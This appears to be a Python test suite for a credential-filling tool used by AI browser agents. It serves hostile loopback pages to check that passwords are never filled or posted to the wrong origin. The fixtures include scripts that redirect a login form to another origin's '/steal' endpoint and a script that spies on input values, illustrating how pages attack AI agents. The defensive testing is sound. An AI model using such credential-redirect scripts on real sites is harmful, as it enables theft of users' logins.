"""Hostile pages against the whole sign-in: shim, browser side and approver.

Each test serves a page on 127.0.0.1 that tries to get a credential sent or
filled where it must not go, runs a real sign-in with an approver whose
policy would grant the item, and checks that nothing reached the page.
"""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator, Iterator
from pathlib import Path

import pytest
from playwright.async_api import Browser, BrowserContext, Page

from blindfill import SignInStatus
from blindfill.approver.audit import read_records
from blindfill.approver.items import Item
from blindfill.approver.prompt import Prompt, PromptQuestion, UnlockQuestion
from blindfill.embedded import Embedded, embedded, policy_for
from blindfill.sensitive import Secret
from tests.loopback import LoopbackSite

pytestmark = pytest.mark.browser

AGENT = "security-agent"
USERNAME = "alice@bank.test"
PASSWORD = "hostile-page-must-never-see-this-1"

LOGIN_FORM = """<!doctype html><title>Sign in</title>
<form id=f method=post action="{action}">
  <label>Email <input id=u name=u autocomplete=username></label>
  <label>Password
    <input id=p name=p type=password autocomplete=current-password></label>
  <button id=go type=submit>Sign in</button>
</form>{extra}"""


def _item(origin: str) -> Item:
    return Item(
        id="bank",
        title="Bank",
        username=USERNAME,
        password=Secret(PASSWORD, kind="password"),
        urls=(origin + "/",),
    )


def _records(setup: Embedded) -> list[object]:
    if not setup.audit_path.exists():
        return []
    return list(read_records(setup.audit_path))


async def _values(page: Page) -> list[str]:
    return await page.eval_on_selector_all("input", "els => els.map(e => e.value)")


@pytest.fixture(scope="module")
def site() -> Iterator[LoopbackSite]:
    served = LoopbackSite()
    yield served
    served.close()


@pytest.fixture(scope="module")
def other_site() -> Iterator[LoopbackSite]:
    served = LoopbackSite()
    yield served
    served.close()


@pytest.fixture
async def setup(tmp_path: Path, site: LoopbackSite) -> AsyncIterator[Embedded]:
    async with embedded(
        [_item(site.origin)],
        workdir=tmp_path / "embedded",
        policy=policy_for(AGENT, [site.origin]),
        agent_name=AGENT,
    ) as running:
        yield running


async def test_certificate_error_is_refused_before_asking(
    tmp_path: Path, browser: Browser
) -> None:
    """Security case 4: an HTTPS page with a certificate error gets nothing.

    The context ignores HTTPS errors, as agent set-ups often do, so the page
    loads; the browser engine still knows the certificate is bad.
    """
    tls_dir = tmp_path / "tls"
    tls_dir.mkdir()
    secure = LoopbackSite(tls_dir=tls_dir)
    try:
        url = secure.add("/login", LOGIN_FORM.format(action="/login", extra=""))
        async with embedded(
            [_item(secure.origin)],
            workdir=tmp_path / "embedded",
            policy=policy_for(AGENT, [secure.origin]),
            agent_name=AGENT,
        ) as setup:
            insecure = await browser.new_context(ignore_https_errors=True)
            try:
                page = await insecure.new_page()
                await page.goto(url)
                result = await setup.blindfill.sign_in(page, reason="pay a bill")
                values = await _values(page)
            finally:
                await insecure.close()
            records = _records(setup)
    finally:
        secure.close()

    assert result.status is SignInStatus.REFUSED
    assert result.detail == "certificate_error"
    assert records == []  # the approver was never asked
    assert PASSWORD not in values
    assert secure.posted == []


async def test_cross_origin_action_is_refused_before_asking(
    site: LoopbackSite,
    other_site: LoopbackSite,
    setup: Embedded,
    context: BrowserContext,
) -> None:
    """Security case 5: a form that posts to another origin is never filled."""
    url = site.add(
        "/case5", LOGIN_FORM.format(action=other_site.origin + "/steal", extra="")
    )
    page = await context.new_page()
    await page.goto(url)

    result = await setup.blindfill.sign_in(page, reason="check balance")

    assert result.status is SignInStatus.REFUSED
    assert result.detail == "cross_origin_action"
    assert _records(setup) == []
    assert PASSWORD not in await _values(page)
    assert other_site.posted == []


@pytest.mark.parametrize(
    "rewire",
    [
        "document.getElementById('f').action = '{other}/steal'",
        "document.getElementById('go').formAction = '{other}/steal'",
    ],
    ids=["form-action", "button-formaction"],
)
async def test_action_changed_after_fill_clears_and_stops(
    rewire: str,
    site: LoopbackSite,
    other_site: LoopbackSite,
    setup: Embedded,
    context: BrowserContext,
) -> None:
    """Security case 6: re-pointing the form after the fill clears it, no submit."""
    script = (
        "<script>document.getElementById('p').addEventListener('change', () => {"
        + rewire.format(other=other_site.origin)
        + "});</script>"
    )
    url = site.add(
        f"/case6-{len(site.routes)}", LOGIN_FORM.format(action="/login", extra=script)
    )
    page = await context.new_page()
    await page.goto(url)

    result = await setup.blindfill.sign_in(page, reason="check balance")

    assert result.status is SignInStatus.REFUSED
    assert result.detail == "action_changed"
    assert not result.submitted
    assert await _values(page) == ["", ""]  # the fields were emptied again
    await asyncio.sleep(0.3)
    assert other_site.posted == []
    assert site.posted == []


class _NavigatingPrompt(Prompt):
    """Approves, but first lets the page navigate away (the race under test)."""

    def __init__(self, page: Page, url: str) -> None:
        self.page, self.url = page, url
        self.asked = 0

    async def ask(self, question: PromptQuestion) -> str | None:
        self.asked += 1
        await self.page.goto(self.url)
        return question.candidates[0].item_id

    async def ask_unlock(self, question: UnlockQuestion) -> Secret[str] | None:
        return None

    async def tell(self, message: str) -> None:
        return None


@pytest.mark.parametrize("same_origin", [True, False], ids=["same", "cross"])
async def test_navigation_between_request_and_fill_discards_credential(
    same_origin: bool,
    tmp_path: Path,
    site: LoopbackSite,
    other_site: LoopbackSite,
    context: BrowserContext,
) -> None:
    """Security case 15: a new document before the fill gets nothing."""
    login = site.add(
        f"/case15-{same_origin}", LOGIN_FORM.format(action="/login", extra="")
    )
    target = site if same_origin else other_site
    swapped = target.add(
        f"/case15-swapped-{same_origin}", LOGIN_FORM.format(action="/x", extra="")
    )
    page = await context.new_page()
    await page.goto(login)
    prompt = _NavigatingPrompt(page, swapped)

    async with embedded(
        [_item(site.origin)],
        workdir=tmp_path / "embedded",
        prompt=prompt,
        agent_name=AGENT,
    ) as setup:
        result = await setup.blindfill.sign_in(page, reason="check balance")

    assert prompt.asked == 1
    assert result.status is SignInStatus.ORIGIN_CHANGED
    assert page.url == swapped
    assert PASSWORD not in await _values(page)
    assert USERNAME not in await _values(page)


async def test_popup_of_another_origin_is_not_filled_by_the_opener_request(
    site: LoopbackSite,
    other_site: LoopbackSite,
    setup: Embedded,
    context: BrowserContext,
) -> None:
    """Security case 16: a popup login needs its own request, for its origin."""
    popup_url = other_site.add(
        "/case16-popup", LOGIN_FORM.format(action="/login", extra="")
    )
    opener = site.add(
        "/case16",
        f"<!doctype html><button id=open onclick=\"window.open('{popup_url}')\">"
        "Sign in with partner</button>",
    )
    page = await context.new_page()
    await page.goto(opener)
    async with context.expect_page() as popup_info:
        await page.click("#open")
    popup = await popup_info.value
    await popup.wait_for_load_state()

    result = await setup.blindfill.sign_in(page, reason="sign in", form_wait=1.0)

    assert result.status is SignInStatus.NO_LOGIN_FORM
    assert _records(setup) == []
    assert PASSWORD not in await _values(popup)

    # Asked on the popup itself, the request names the popup's own origin,
    # for which the vault has nothing: declined, nothing filled.
    result = await setup.blindfill.sign_in(popup, reason="sign in")
    assert result.status is SignInStatus.DECLINED
    assert result.origin == other_site.origin
    assert PASSWORD not in await _values(popup)
    assert other_site.posted == []


async def test_same_origin_page_receives_the_credential_and_it_is_sent_at_once(
    site: LoopbackSite, setup: Embedded, context: BrowserContext
) -> None:
    """Security case 25 (residual risk): the matching origin's scripts can
    read the filled value; blindfill submits in the same call, at once.

    The risk is stated in docs/threat-model.md; this test pins both halves
    of the statement, so the document cannot drift from the behaviour.
    """
    spy = (
        "<script>window.seen = [];document.getElementById('p')"
        ".addEventListener('input', e => window.seen.push(e.target.value.length));"
        "</script>"
    )
    url = site.add("/case25", LOGIN_FORM.format(action="/case25-post", extra=spy))
    page = await context.new_page()
    await page.goto(url)

    result = await setup.blindfill.sign_in(page, reason="check balance")

    assert result.status is SignInStatus.SIGNED_IN
    posted = [p for p in site.posted if p.path == "/case25-post"]
    assert len(posted) == 1
    assert posted[0].form["p"] == [PASSWORD]  # the page of the origin got it
    threat_model = Path(__file__).parents[2] / "docs" / "threat-model.md"
    assert "matching origin receives the credential" in threat_model.read_text()
